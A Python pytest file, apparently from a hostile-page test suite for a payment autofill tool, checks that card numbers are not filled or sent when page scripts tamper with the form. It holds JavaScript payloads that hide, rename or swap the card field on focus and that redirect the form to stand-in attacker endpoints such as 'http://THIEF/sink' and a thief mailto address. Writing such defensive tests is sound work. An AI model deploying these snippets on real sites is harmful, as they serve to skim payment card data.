"""Fields that become others between check and write: the card goes nowhere but where a person sees it."""

import pytest

from tests.hostile.conftest import Scene
from tests.hostile.markup import payment_form

SWAPS = {
    "moved away": "number.style.cssText = 'position:absolute;left:-9999px'",
    "made transparent": "number.style.opacity = 0",
    "made transparent by a rule": "document.styleSheets[0].insertRule('#number {opacity: 0}')",
    "made small": "number.style.cssText = 'width:1px;height:1px;padding:0;border:0'",
    "not displayed": "number.parentNode.style.display = 'none'",
    "covered": "veil.style.display = 'block'",
    "renamed": "number.name = 'comment'",
    "made another kind": "number.type = 'search'",
    "locked": "number.readOnly = true",
    "taken out": "number.remove()",
    "replaced by a copy": "number.replaceWith(Object.assign(number.cloneNode(), {style: 'opacity:0'}))",
    "moved into a closed box": "box.append(number)",
    "focus given to another field": "decoy.focus()",
}

PAGE = """<style>#veil {position:fixed;inset:0;background:#fff;display:none}</style><b id=veil></b>
<details><summary>Notes</summary><div id=box></div></details><input id=decoy name=remarks aria-label=Remarks>
<script>
  const number = document.getElementById('number');
  let done = false;
  const swap = () => { if (!done) { done = true; %s } };
  document.addEventListener('%s', (event) => { if (event.target === number) swap(); }, true);
</script>"""


@pytest.mark.parametrize("moment", ["focus", "focusin"])
@pytest.mark.parametrize("swap", SWAPS)
def test_a_field_swapped_as_it_is_entered_gets_no_card(scene: Scene, swap: str, moment: str) -> None:
    scene.put(payment_form() + PAGE % (SWAPS[swap], moment))
    assert scene.open()
    scene.fill()
    assert scene.ask("done") is True
    if swap == "focus given to another field":
        assert scene.ask("decoy.value") == ""
    else:
        assert scene.ask("number.value + [...document.querySelectorAll('#decoy')].map((f) => f.value)") == ""


AFTERWARDS = {
    "action": "form.action = url",
    "action of the button": "go.formAction = url",
    "action by an attribute": "go.setAttribute('formaction', url)",
    "in the address": "form.method = 'get'; form.action = url",
    "into a frame": "form.action = url; form.target = 'mate'",
    "into a new window": "form.action = url; form.target = '_blank'",
    "at the last moment": "form.addEventListener('submit', () => { form.action = url; })",
    "by a base": "document.head.append(Object.assign(document.createElement('base'), {href: url})); "
    "form.setAttribute('action', 'x')",
    "in the mail": "form.action = 'mailto:thief@example.com'",
}


@pytest.mark.parametrize("way", AFTERWARDS)
def test_a_form_turned_to_another_host_after_the_fill_is_not_sent(scene: Scene, way: str) -> None:
    scene.put(f"""{payment_form()}<iframe name=mate></iframe><script>
        const form = document.forms[0], url = 'http://THIEF/sink';
        const turn = () => {{ {AFTERWARDS[way]} }};</script>""")
    assert scene.open()
    scene.fill()
    scene.ask("turn()")
    scene.press("go")
    blocked = scene.blocked
    assert scene.page.release()
    scene.wait(lambda: scene.blocked > blocked)
    assert scene.thief.heard == b""
    assert scene.sent() == 0
